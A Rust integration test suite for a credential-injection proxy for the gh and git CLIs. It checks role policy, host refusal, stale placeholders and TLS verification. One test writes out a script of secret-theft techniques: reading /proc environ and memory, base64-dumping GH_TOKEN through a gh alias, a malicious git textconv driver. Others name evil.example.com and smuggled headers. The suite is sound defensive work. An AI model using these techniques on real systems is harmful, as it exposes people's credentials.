//! Injection mode end to end: the real `porter` daemon and `cliport-proxy`, Debian's
//! real `gh` (2.23) and `git`, and a local HTTPS stand-in for GitHub that Porter's
//! proxy is pointed at (`--upstream-override`). Proves the CLIs work with the real
//! token on the wire while their processes only ever hold a placeholder; that no escape
//! into the CLI yields the secret in any encoding; that the request policy refuses an
//! employee's merge at the proxy; that other hosts and stale placeholders are refused.

mod standin;
mod support;

use std::{
    collections::BTreeMap,
    io::{BufRead, BufReader, Write},
    path::Path,
    process::Output,
};

use base64::{Engine, engine::general_purpose::STANDARD};
use porter_protocol::registry::{CliEntry, GraphqlRule, Registry, RequestRule};
use standin::StandIn;
use support::{Daemon, EMPLOYEE_TOKEN, TOKEN};

/// A fresh random GitHub-looking token (letters and digits, so no accidental hex match).
fn random_secret() -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut bytes = [0_u8; 36];
    getrandom::fill(&mut bytes).unwrap();
    let tail: String = bytes
        .iter()
        .map(|byte| char::from(ALPHABET[usize::from(*byte) % ALPHABET.len()]))
        .collect();
    format!("ghp_{tail}")
}

fn rule(methods: &[&str], paths: &[&str], graphql: Option<GraphqlRule>) -> RequestRule {
    RequestRule {
        methods: methods.iter().map(|method| (*method).to_owned()).collect(),
        paths: paths.iter().map(|path| (*path).to_owned()).collect(),
        graphql,
    }
}

/// An employee may read pull requests (REST and GraphQL queries) and fetch
/// repositories; the owner may do anything.
fn github_requests() -> BTreeMap<String, Vec<RequestRule>> {
    BTreeMap::from([
        (
            "employee".to_owned(),
            vec![
                rule(&["GET"], &["/repos/*/*/pulls", "/repos/*/*/pulls/**"], None),
                rule(
                    &["POST"],
                    &["/graphql"],
                    Some(GraphqlRule {
                        queries: true,
                        mutations: Vec::new(),
                    }),
                ),
                rule(&["GET"], &["/*/*/info/refs"], None),
                rule(&["POST"], &["/*/*/git-upload-pack"], None),
            ],
        ),
        ("owner".to_owned(), vec![rule(&["*"], &["/**"], None)]),
    ])
}

fn injected(bin: &str, secret_file: &Path) -> CliEntry {
    CliEntry {
        bin: bin.to_owned(),
        timeout_seconds: 60,
        env_from_files: BTreeMap::from([(
            "GH_TOKEN".to_owned(),
            secret_file.to_string_lossy().into_owned(),
        )]),
        hosts: standin::HOSTS
            .iter()
            .map(|host| (*host).to_owned())
            .collect(),
        requests: github_requests(),
        ..CliEntry::default()
    }
}

struct World {
    secret: String,
    standin: StandIn,
    daemon: Daemon,
    _directory: tempfile::TempDir,
}

/// The stand-in, and Porter with `gh`, `git` and `sh` registered in injection mode.
fn world() -> World {
    world_trusting(true)
}

/// As [`world`]; `trust_standin: false` leaves the stand-in's CA out of Porter's
/// upstream trust (as a man in the middle would be).
fn world_trusting(trust_standin: bool) -> World {
    let directory = tempfile::tempdir().unwrap();
    let secret = random_secret();
    let secret_file = directory.path().join("gh-token");
    std::fs::write(&secret_file, format!("{secret}\n")).unwrap();
    let standin = StandIn::start(directory.path(), &secret);
    let overrides: Vec<String> = standin::HOSTS
        .iter()
        .map(|host| format!("{host}={}", standin.address))
        .collect();
    let ca_file = standin.ca_file.to_string_lossy().into_owned();
    let mut arguments = Vec::new();
    if trust_standin {
        arguments.extend(["--upstream-ca-file", ca_file.as_str()]);
    }
    for host_override in &overrides {
        arguments.extend(["--upstream-override", host_override.as_str()]);
    }
    let daemon = Daemon::start_with(
        |_, registry: &mut Registry| {
            for (name, bin) in [
                ("gh", "/usr/bin/gh"),
                ("git", "/usr/bin/git"),
                ("sh", "/bin/sh"),
            ] {
                registry
                    .clis
                    .insert(name.into(), injected(bin, &secret_file));
            }
        },
        &arguments,
    );
    World {
        secret,
        standin,
        daemon,
        _directory: directory,
    }
}

fn text(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

impl World {
    fn run(&self, cli: &str, arguments: &[&str], token: &str) -> Output {
        self.daemon.proxy(cli, arguments, token).output().unwrap()
    }

    fn run_in(&self, cwd: &str, cli: &str, arguments: &[&str], token: &str) -> Output {
        self.daemon
            .proxy(cli, arguments, token)
            .env("CLIPORT_CWD", cwd)
            .output()
            .unwrap()
    }

    /// Runs a shell script as a registered CLI (what a bot could run if every argument
    /// policy failed), with `$1` = Porter's pid.
    fn shell(&self, script: &str, token: &str) -> Output {
        let pid = self.daemon.pid().to_string();
        self.run("sh", &["-c", script, "sh", &pid], token)
    }

    /// The proxy's request decisions so far.
    fn decisions(&self) -> Vec<serde_json::Value> {
        self.daemon
            .audit()
            .into_iter()
            .filter(|line| line["kind"] == "request")
            .collect()
    }
}

/// Every form of `secret` an escape could print: literal, reversed, base64 (with and
/// without a newline), hex — as windows, so split halves are caught too. Whitespace is
/// ignored (od and base64 wrap their output).
fn assert_no_secret(label: &str, haystack: &str, secret: &str) {
    let squeezed: String = haystack.chars().filter(|c| !c.is_whitespace()).collect();
    let lower = squeezed.to_ascii_lowercase();
    let reversed: String = secret.chars().rev().collect();
    let encodings = [
        (secret.to_owned(), 12),
        (reversed, 12),
        (STANDARD.encode(secret), 16),
        (STANDARD.encode(format!("{secret}\n")), 16),
        (hex::encode(secret), 24),
    ];
    for (encoded, window) in encodings {
        for start in 0..=encoded.len() - window {
            let piece = &encoded[start..start + window];
            let found = if piece.bytes().all(|byte| byte.is_ascii_hexdigit()) {
                lower.contains(piece)
            } else {
                squeezed.contains(piece)
            };
            assert!(
                !found,
                "{label}: the secret leaked as {encoded:?} (piece {piece:?})"
            );
        }
    }
}

#[test]
fn gh_pr_list_and_api_reach_the_stand_in_with_the_real_token_while_the_cli_holds_a_placeholder() {
    let world = world();
    let listed = world.run("gh", &["pr", "list", "-R", "o/r"], TOKEN);
    assert!(listed.status.success(), "gh pr list: {}", text(&listed));
    assert!(text(&listed).contains("Fix the thing"), "{}", text(&listed));
    let api = world.run("gh", &["api", "repos/o/r/pulls"], EMPLOYEE_TOKEN);
    assert!(api.status.success(), "gh api: {}", text(&api));
    assert!(text(&api).contains("Fix the thing"));

    let requests = world.standin.requests();
    assert!(
        requests
            .iter()
            .any(|request| request.method == "POST" && request.path == "/graphql"),
        "gh pr list sent no GraphQL: {requests:?}"
    );
    assert!(
        requests
            .iter()
            .any(|request| request.path == "/repos/o/r/pulls")
    );
    for request in &requests {
        assert_eq!(
            request.credential().as_deref(),
            Some(world.secret.as_str()),
            "{request:?} did not carry the real token"
        );
    }
    // What the CLI held: the same environment, printed by a shell in the same mode.
    let environment = world.shell("printenv", TOKEN);
    let environment = String::from_utf8_lossy(&environment.stdout).into_owned();
    let token_line = environment
        .lines()
        .find(|line| line.starts_with("GH_TOKEN="))
        .expect("GH_TOKEN is set");
    assert!(
        token_line.starts_with("GH_TOKEN=porter_ph_"),
        "{token_line}"
    );
    assert_no_secret("child environment", &environment, &world.secret);

    let decisions = world.decisions();
    assert!(decisions.iter().any(|line| line["decision"] == "allowed"
        && line["method"] == "GET"
        && line["path"] == "/repos/o/r/pulls"
        && line["contact"] == "ana"
        && line["role"] == "employee"
        && line["host"] == "api.github.com"
        && line["status"] == 200));
    assert_no_secret("audit log", &world.daemon.raw_log_text(), &world.secret);
    assert!(!world.daemon.raw_log_text().contains("porter_ph_"));
}

#[test]
fn git_clone_and_push_over_https_carry_the_real_token_in_basic_auth() {
    let world = world();
    world.standin.create_repository("o", "r");
    let cloned = world.run("git", &["clone", "https://github.com/o/r.git", "r"], TOKEN);
    assert!(cloned.status.success(), "git clone: {}", text(&cloned));
    let checkout = world.daemon.workspace.join("r");
    assert_eq!(
        std::fs::read_to_string(checkout.join("README.md")).unwrap(),
        "hello from the stand-in\n"
    );

    std::fs::write(checkout.join("CHANGE.md"), "pushed through porter\n").unwrap();
    standin::git(&checkout, &["add", "CHANGE.md"]);
    standin::git(&checkout, &["commit", "-q", "-m", "through porter"]);
    // An employee may fetch but not push: refused at the proxy.
    let refused = world.run_in(
        "/workspace/r",
        "git",
        &["push", "origin", "main"],
        EMPLOYEE_TOKEN,
    );
    assert!(
        !refused.status.success(),
        "employee push: {}",
        text(&refused)
    );
    let pushed = world.run_in("/workspace/r", "git", &["push", "origin", "main"], TOKEN);
    assert!(pushed.status.success(), "git push: {}", text(&pushed));

    let bare = world.standin.git_root.join("o/r.git");
    let log = std::process::Command::new("git")
        .args(["log", "--format=%s", "main"])
        .current_dir(&bare)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&log.stdout),
        "through porter\nfirst\n"
    );

    let requests = world.standin.requests();
    let receive_packs: Vec<_> = requests
        .iter()
        .filter(|request| request.path == "/o/r.git/git-receive-pack")
        .collect();
    assert_eq!(receive_packs.len(), 1, "only the owner's push got through");
    assert_eq!(
        receive_packs[0].credential().as_deref(),
        Some(world.secret.as_str())
    );
    assert!(
        receive_packs[0]
            .authorization
            .as_deref()
            .unwrap()
            .starts_with("Basic "),
        "git sends Basic auth"
    );
    assert!(
        requests
            .iter()
            .filter_map(|request| request.credential())
            .all(|credential| credential == world.secret),
        "a placeholder reached the upstream"
    );
    assert!(
        world
            .decisions()
            .iter()
            .any(|line| line["decision"] == "refused"
                && line["method"] == "POST"
                && line["path"] == "/o/r.git/git-receive-pack"
                && line["role"] == "employee")
    );
}

#[test]
fn an_employees_merge_is_refused_at_the_proxy_however_it_is_asked_and_the_owners_is_admitted() {
    let world = world();
    let merge_arguments = ["pr", "merge", "1", "--merge", "-R", "o/r"];
    let attempts = [
        world.run("gh", &merge_arguments, EMPLOYEE_TOKEN),
        world.run(
            "gh",
            &["api", "-X", "PUT", "repos/o/r/pulls/1/merge"],
            EMPLOYEE_TOKEN,
        ),
        // Through an alias, defined and used in one call (in case aliases persist or
        // the argument policy lets them through: the proxy still decides).
        world.shell(
            "gh alias set mm 'pr merge 1 --merge -R o/r' >/dev/null && gh mm",
            EMPLOYEE_TOKEN,
        ),
        world.shell(
            "gh api --method PUT repos/o/r/pulls/1/merge",
            EMPLOYEE_TOKEN,
        ),
    ];
    for attempt in &attempts {
        assert!(
            !attempt.status.success(),
            "employee merge went through: {}",
            text(attempt)
        );
    }
    let merged_by = |requests: &[standin::Recorded]| {
        requests
            .iter()
            .filter(|request| {
                request.body.contains("mergePullRequest")
                    || (request.method == "PUT" && request.path.ends_with("/merge"))
            })
            .count()
    };
    assert_eq!(
        merged_by(&world.standin.requests()),
        0,
        "a merge reached the stand-in"
    );
    let refusals: Vec<_> = world
        .decisions()
        .into_iter()
        .filter(|line| line["decision"] == "refused" && line["contact"] == "ana")
        .collect();
    assert!(refusals.iter().any(|line| {
        line["path"] == "/graphql"
            && line["reason"]
                .as_str()
                .unwrap()
                .contains("mergePullRequest")
    }));
    assert!(refusals.iter().any(|line| line["method"] == "PUT"
        && line["path"] == "/repos/o/r/pulls/1/merge"
        && line["role"] == "employee"));
    // Decisions never hold a header value.
    for line in world.decisions() {
        let line = line.to_string();
        assert!(
            !line.contains("porter_ph_") && !line.contains("porter_call_"),
            "{line}"
        );
        assert_no_secret("decision", &line, &world.secret);
    }

    let owner_merge = world.run("gh", &merge_arguments, TOKEN);
    assert!(
        owner_merge.status.success(),
        "owner merge: {}",
        text(&owner_merge)
    );
    let owner_put = world.run(
        "gh",
        &["api", "-X", "PUT", "repos/o/r/pulls/1/merge"],
        TOKEN,
    );
    assert!(
        owner_put.status.success(),
        "owner PUT: {}",
        text(&owner_put)
    );
    assert_eq!(merged_by(&world.standin.requests()), 2);
}

#[test]
fn escapes_into_the_cli_find_only_a_placeholder_in_any_encoding() {
    let world = world();
    // What a bot could do if every argument policy failed: run anything in the CLI's
    // process with its environment. Output goes to files too, past Porter's redactor.
    let script = r#"
        exec 2>&1
        gh alias set x '!printf %s "$GH_TOKEN" | base64' >/dev/null; gh x | tee alias.out
        gh auth token | tee auth-token.out
        gh auth status -t -h github.com | tee auth-status.out
        env | tee env.out
        printf %s "$GH_TOKEN" | od -An -tx1 | tee hex.out
        printf %s "$GH_TOKEN" | rev | tee reversed.out
        cat /proc/$1/environ | tee porter-environ.out
        head -c 100000 /proc/$1/mem | base64 | tee porter-mem.out
        printf 'protocol=https\nhost=github.com\n\n' | git credential fill | tee credential.out
        git init -q t && cd t
        export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@x GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@x
        printf '*.txt diff=leak\n' > .gitattributes
        git config diff.leak.textconv 'sh -c "printenv GH_TOKEN | base64; cat \"\$0\"" '
        echo one > a.txt && git add . && git commit -qm one
        echo two > a.txt
        git diff | tee ../textconv.out
        git log -p --textconv | tee -a ../textconv.out
    "#;
    let output = world.shell(script, TOKEN);
    let mut everything = text(&output);
    for entry in std::fs::read_dir(&world.daemon.workspace)
        .unwrap()
        .flatten()
    {
        if entry
            .path()
            .extension()
            .is_some_and(|extension| extension == "out")
        {
            everything.push_str(&std::fs::read_to_string(entry.path()).unwrap_or_default());
        }
    }
    assert_no_secret("escape output", &everything, &world.secret);

    // The escapes did run, and found the placeholder.
    let environment = std::fs::read_to_string(world.daemon.workspace.join("env.out")).unwrap();
    let placeholder = environment
        .lines()
        .find_map(|line| line.strip_prefix("GH_TOKEN="))
        .expect("the child has GH_TOKEN")
        .to_owned();
    assert!(placeholder.starts_with("porter_ph_"));
    let textconv = std::fs::read_to_string(world.daemon.workspace.join("textconv.out")).unwrap();
    assert!(
        textconv.contains(&STANDARD.encode(format!("{placeholder}\n"))),
        "the textconv driver did not run: {textconv}"
    );
    let credential =
        std::fs::read_to_string(world.daemon.workspace.join("credential.out")).unwrap();
    assert!(
        credential.contains(&format!("password={placeholder}")),
        "{credential}"
    );
    // Porter's own environment and memory (read above) hold no injected secret either:
    // it came from a file. (Porter is also non-dumpable, which closes /proc/<pid>/mem and
    // environ to children of a non-root Porter; these tests run as root, which bypasses it.)
}

#[test]
fn hosts_outside_the_entry_are_refused_at_connect() {
    let world = world();
    let output = world.shell(
        "git ls-remote https://gitlab.com/o/r.git; gh api --hostname evil.example.com user",
        TOKEN,
    );
    assert!(!output.status.success());
    let refused_hosts: Vec<String> = world
        .decisions()
        .into_iter()
        .filter(|line| line["decision"] == "refused" && line["method"] == "CONNECT")
        .map(|line| line["host"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        refused_hosts.contains(&"gitlab.com".to_owned()),
        "{refused_hosts:?}"
    );
    assert!(
        refused_hosts.contains(&"evil.example.com".to_owned()),
        "{refused_hosts:?}"
    );
    assert!(world.standin.requests().is_empty());
}

#[test]
fn a_placeholder_and_proxy_credential_die_with_their_call() {
    let world = world();
    let first = world.shell("printenv GH_TOKEN; printenv HTTPS_PROXY", TOKEN);
    let first = String::from_utf8_lossy(&first.stdout).into_owned();
    let mut lines = first.lines();
    let (old_placeholder, old_proxy) = (lines.next().unwrap(), lines.next().unwrap());
    assert!(old_placeholder.starts_with("porter_ph_"));

    // A later call presenting the earlier placeholder through its own (live) tunnel.
    let later = world.shell(
        &format!("GH_TOKEN={old_placeholder} gh api repos/o/r/pulls"),
        TOKEN,
    );
    assert!(!later.status.success(), "{}", text(&later));
    assert!(
        world.standin.requests().is_empty(),
        "the stale placeholder went upstream"
    );
    assert!(
        world
            .decisions()
            .iter()
            .any(|line| line["decision"] == "refused"
                && line["reason"].as_str().unwrap().contains("placeholder"))
    );

    // The earlier call's proxy credential no longer opens a tunnel.
    let url = old_proxy.strip_prefix("http://").unwrap();
    let (credential, address) = url.rsplit_once('@').unwrap();
    let mut stream = std::net::TcpStream::connect(address).unwrap();
    write!(
        stream,
        "CONNECT api.github.com:443 HTTP/1.1\r\nHost: api.github.com:443\r\nProxy-Authorization: Basic {}\r\n\r\n",
        STANDARD.encode(credential)
    )
    .unwrap();
    let mut status = String::new();
    BufReader::new(stream).read_line(&mut status).unwrap();
    assert!(status.starts_with("HTTP/1.1 407"), "{status}");
}

/// Opens a tunnel through Porter's proxy to `api.github.com` with a live call's proxy
/// URL, and speaks HTTP/1 in it, trusting Porter's CA from `ca_file`.
fn tunnel_client(
    proxy_url: &str,
    ca_file: &str,
) -> (
    tokio::runtime::Runtime,
    hyper::client::conn::http1::SendRequest<http_body_util::Empty<bytes::Bytes>>,
) {
    use rustls::pki_types::{CertificateDer, ServerName, pem::PemObject};
    use tokio::io::{AsyncBufReadExt, AsyncWriteExt};
    let (credential, address) = proxy_url
        .strip_prefix("http://")
        .unwrap()
        .rsplit_once('@')
        .unwrap();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let mut roots = rustls::RootCertStore::empty();
    for certificate in CertificateDer::pem_file_iter(ca_file).unwrap() {
        roots.add(certificate.unwrap()).unwrap();
    }
    let config = rustls::ClientConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::aws_lc_rs::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    let sender = runtime.block_on(async {
        let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
        stream
            .write_all(
                format!(
                    "CONNECT api.github.com:443 HTTP/1.1\r\nProxy-Authorization: Basic {}\r\n\r\n",
                    STANDARD.encode(credential)
                )
                .as_bytes(),
            )
            .await
            .unwrap();
        let mut reader = tokio::io::BufReader::new(stream);
        let mut line = String::new();
        reader.read_line(&mut line).await.unwrap();
        assert!(line.starts_with("HTTP/1.1 200"), "{line}");
        while line != "\r\n" {
            line.clear();
            reader.read_line(&mut line).await.unwrap();
        }
        let tls = tokio_rustls::TlsConnector::from(std::sync::Arc::new(config))
            .connect(
                ServerName::try_from("api.github.com").unwrap(),
                reader.into_inner(),
            )
            .await
            .unwrap();
        let (sender, connection) =
            hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls))
                .await
                .unwrap();
        tokio::spawn(connection);
        sender
    });
    (runtime, sender)
}

#[test]
fn requests_in_a_tunnel_go_only_to_its_host_and_never_switch_protocols() {
    use http_body_util::{BodyExt, Empty};
    let world = world();
    // A call that stays alive while the test drives its tunnel by hand.
    let mut call = world
        .daemon
        .proxy(
            "sh",
            &[
                "-c",
                "printenv HTTPS_PROXY SSL_CERT_FILE GH_TOKEN; sleep 20",
            ],
            TOKEN,
        )
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(call.stdout.take().unwrap()).lines();
    let mut next = || lines.next().unwrap().unwrap();
    let (proxy_url, ca_file, placeholder) = (next(), next(), next());
    let (runtime, mut sender) = tunnel_client(&proxy_url, &ca_file);
    let mut send = |request: http::Request<Empty<bytes::Bytes>>| {
        runtime.block_on(async {
            sender.ready().await.unwrap();
            let response = sender.send_request(request).await.unwrap();
            let status = response.status();
            response.into_body().collect().await.unwrap();
            status
        })
    };
    // Absolute form naming another authority, and a Host header naming a third.
    let status = send(
        http::Request::get("https://evil.example.com/repos/o/r/pulls")
            .header("host", "evil.example.com")
            .header("authorization", format!("token {placeholder}"))
            .body(Empty::new())
            .unwrap(),
    );
    assert_eq!(status, 200);
    let upgrade = send(
        http::Request::get("/repos/o/r/pulls")
            .header("connection", "upgrade")
            .header("upgrade", "websocket")
            .body(Empty::new())
            .unwrap(),
    );
    assert_eq!(upgrade, 403);
    let overridden = send(
        http::Request::get("/repos/o/r/pulls")
            .header("x-http-method-override", "DELETE")
            .body(Empty::new())
            .unwrap(),
    );
    assert_eq!(overridden, 403);
    let _ = call.kill();
    let _ = call.wait();

    let requests = world.standin.requests();
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert_eq!(
        (requests[0].host.as_str(), requests[0].path.as_str()),
        ("api.github.com", "/repos/o/r/pulls")
    );
    assert_eq!(
        requests[0].credential().as_deref(),
        Some(world.secret.as_str())
    );
}

#[test]
fn an_upstream_whose_certificate_porter_cannot_verify_gets_no_request() {
    let world = world_trusting(false);
    let output = world.run("gh", &["api", "repos/o/r/pulls"], TOKEN);
    assert!(!output.status.success(), "{}", text(&output));
    assert!(
        world.standin.requests().is_empty(),
        "a request (and the token) reached an unverified upstream"
    );
    assert!(world.decisions().iter().any(|line| {
        line["path"] == "/repos/o/r/pulls"
            && line["decision"] == "upstream_error"
            && line["reason"]
                .as_str()
                .unwrap()
                .contains("failed to verify TLS")
    }));
}
